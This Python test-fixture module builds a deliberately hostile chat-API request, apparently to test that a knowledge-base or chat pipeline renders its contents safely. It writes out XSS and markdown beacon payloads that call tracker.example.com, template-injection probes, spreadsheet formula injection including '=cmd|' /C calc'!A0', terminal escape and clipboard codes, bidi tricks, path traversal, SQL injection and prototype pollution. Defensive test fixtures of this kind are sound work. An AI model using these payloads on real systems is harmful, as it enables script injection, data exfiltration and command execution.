"""Text of somebody who means harm: everything that a page, a table or a terminal might be made to run, fetch or hide.

Nothing in it is dangerous where text stays text. All hosts are of example.com.
"""

from __future__ import annotations

import gzip
import json
from typing import Any, Final

from tests.sample_making.chat import uid

__all__ = ["CODES", "MARKUP", "NAMES", "RUN_LENGTH", "TEXT", "hostile", "packed", "run_of"]

_HOST: Final = "http://tracker.example.com"
RUN_LENGTH: Final = 1_000_000
_MARKS: Final = 100_000

# Each sets `window.__pwned` or asks another host, should it ever become more than text.
MARKUP: Final = (
    f"![picture]({_HOST}/a.png?q=markdown)",
    f"[link]({_HOST}/b) [script](javascript:window.__pwned=1) <{_HOST}/c>",
    f"[reference][r] ![reference][r]\n\n[r]: {_HOST}/d.png 'title'",
    f"<img src='{_HOST}/e.png' onerror='window.__pwned=2'>",
    "<img src=x onerror=window.__pwned=3>",
    "<script>window.__pwned=4;document.title='taken'</script>",
    f"<script src='{_HOST}/f.js'></script>",
    f"<svg onload='window.__pwned=5'><image href='{_HOST}/g.png'/><script>alert(6)</script></svg>",
    f"<svg><use href='{_HOST}/h.svg#i'/></svg>",
    f"<style>@import '{_HOST}/j.css';*{{background:url({_HOST}/k.png);display:none}}</style>",
    f"<link rel=stylesheet href='{_HOST}/l.css'><base href='{_HOST}/'>",
    f"<meta http-equiv=refresh content='0;url={_HOST}/m'>",
    f"<iframe src='{_HOST}/n' srcdoc='<script>parent.__pwned=7</script>'></iframe>",
    f"<form action='{_HOST}/o'><button autofocus onfocus='window.__pwned=8'>ok</button></form>",
    f"<video poster='{_HOST}/p.png'><source src='{_HOST}/q.mp4' onerror='window.__pwned=9'></video>",
    "<a href='data:text/html,<script>alert(10)</script>'>data</a>",
    "![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDExKSIvPg==)",
    "</textarea></code></pre></td></script><script>alert(12)</script>",
    "$$\\href{javascript:window.__pwned=13}{x}\\includegraphics{http://tracker.example.com/r.png}$$",
    ":material/delete: :red[red] :blue-background[blue] :smile:",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %} %(a)s {0}",
    "&lt;b&gt; &#x202e; &amp;nbsp; \\u003cscript\\u003e",
)
# What steers a terminal, hides, turns round or cuts short.
CODES: Final = (
    "\x1b[2J\x1b[H\x1b[31mred\x1b[0m",
    f"\x1b]8;;{_HOST}/s\x1b\\open\x1b]8;;\x1b\\",
    "\x1b]0;taken\x07\x1b]52;c;dGFrZW4=\x07\x9b31m",
    "first\rsecond\x08\x08\x0b\x0c\x7f\x85end",
    "invoice\u202egpj.exe\u202c \u2066a\u2069 \u200f\u061c",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff\u00adend",
    "tag\U000e0041\U000e0042\U000e007f \ufff9a\ufffab\ufffb \u2028 \u2029 \u3164",
    "half \ud83d and \udc00 of a pair",
    "before\x00after",
)
TEXT: Final = "\n".join((*MARKUP, *CODES))
# Names of tools, keys, files and models.
NAMES: Final = (
    "__proto__",
    "constructor",
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("{_HOST}/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*9",
    "\t=1+1",
    "\r=1+2",
    f"![x]({_HOST}/t.png)",
    "<img src=x onerror=window.__pwned=14>",
    '"><script>alert(15)</script>',
    "../../../../etc/passwd",
    "C:\\..\\con\x00.json",
    "\x1b[31mred\x1b[0m\x9b1m",
    "good\u202etset\u202c\u200b",
    "{{7*7}} ${7*7} {% x %}",
    "'; DROP TABLE leaks; --",
    "half\ud83d",
    "two\nlines",
    "long" * 75,
)


def run_of(length: int) -> str:
    """So many characters without a space or a line end, which compress, but not as an archive bomb does."""
    block = "".join(f"{{{number:x}!{uid(str(number))[:7]};" for number in range(800))
    return (block * (length // len(block) + 1))[:length]


def hostile() -> dict[str, Any]:
    """A request to OpenAI's chat API of eight messages."""
    calls = [_call("search_knowledge", {"query": TEXT, "knowledge_base_ids": [uid("base")], "__proto__": {"x": 1}})]
    calls += [_call(name, _arguments(name)) for name in NAMES]
    return {
        "model": f"<b>{NAMES[2]}</b>{CODES[0]}",
        "__proto__": {"polluted": True},
        "metadata": dict.fromkeys(NAMES, TEXT),
        "messages": [
            {"role": "system", "content": f"Answer from weknora://kb/{uid('base')}.\n{TEXT}"},
            {"role": "user", "name": NAMES[10], "content": _parts()},
            {"role": "assistant", "content": None, "reasoning_content": TEXT, "tool_calls": calls},
            {"role": "tool", "tool_call_id": calls[0]["id"], "content": _found()},
            {"role": "tool", "tool_call_id": calls[3]["id"], "content": json.dumps(_rows(), indent=1)},
            {"role": "tool", "tool_call_id": calls[5]["id"], "content": _endless()},
            {"role": "user", "content": f"Z{_marks(_MARKS)} and then?\n{uid('asked')}"},
            {"role": "assistant", "content": _answer()},
        ],
        "tools": [_tool("search_knowledge"), *map(_tool, NAMES)],
    }


def packed() -> bytes:
    """The request as a gzip file: lone surrogates are escaped, all else stands as it is."""
    text = json.dumps(hostile(), ensure_ascii=False, indent=1)
    escaped = "".join(f"\\u{ord(each):04x}" if "\ud800" <= each <= "\udfff" else each for each in text)
    return gzip.compress(escaped.encode(), mtime=0)


def _call(name: str, arguments: dict[str, Any]) -> dict[str, Any]:
    return {
        "id": f"call_{name[:40]}",
        "type": "function",
        "function": {"name": name, "arguments": json.dumps(arguments, ensure_ascii=len(name) % 2 == 0)},
    }


def _arguments(name: str) -> dict[str, Any]:
    return {
        "__proto__": {"__proto__": {"polluted": True}},
        "constructor": {"prototype": {"polluted": True}},
        name: f"{name} {uid(ascii(name))}",
        "ids": [uid(ascii(name)), uid("base")],
        "text": (MARKUP + CODES)[len(name) % (len(MARKUP) + len(CODES))],
    }


def _parts() -> list[dict[str, Any]]:
    return [
        {"type": "text", "text": f"Is {uid('asked')} safe to open?\n{TEXT}"},
        {"type": "image_url", "image_url": {"url": f"{_HOST}/u.png?{uid('asked')}"}},
        {"type": "image_url", "image_url": {"url": "data:image/svg+xml,<svg onload=alert(16)/>"}},
        *(
            {"type": "file", "file": {"filename": name, "file_data": "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+"}}
            for name in NAMES
        ),
    ]


def _found() -> str:
    base, document = uid("base"), uid("document")
    return (
        f'<retrieval>\n <document knowledge_id="{document}" knowledge_base_id="{base}" title="a&quot;b">\n'
        f'  <chunk chunk_id="{uid("chunk")}" index="0"><content>{TEXT}</content></chunk>\n'
        f'  <chunk chunk_id="{uid("other chunk")}" index="1"><content>\u202e{document}\u202c</content></chunk>\n'
        " </document>\n</retrieval>"
    )


def _rows() -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = [{name: uid(f"{name!a} {number}") for name in NAMES} for number in range(3)]
    return [*rows, {"__proto__": {"chunk_id": uid("chunk")}, "title": TEXT}]


def _endless() -> str:
    half = run_of(RUN_LENGTH // 2)
    return f"{half};{uid('chunk')};{half}"


def _marks(length: int) -> str:
    row = "".join(map(chr, range(0x300, 0x370)))
    return (row * (length // len(row) + 1))[:length]


def _answer() -> str:
    base, chunk = uid("base"), uid("chunk")
    return (
        f'It is.<kb doc="{MARKUP[4]}" chunk_id="{chunk}" kb_id="{base}" />\n{TEXT}\n'
        f'The rest stands in {uid("document")} and <ref id="chunk://99"/>.'
    )


def _tool(name: str) -> dict[str, Any]:
    schema = {
        "type": "object",
        "properties": {name: {"type": "string", "description": TEXT, "default": uid(ascii(name))}},
    }
    return {"type": "function", "function": {"name": name, "description": TEXT, "parameters": schema}}
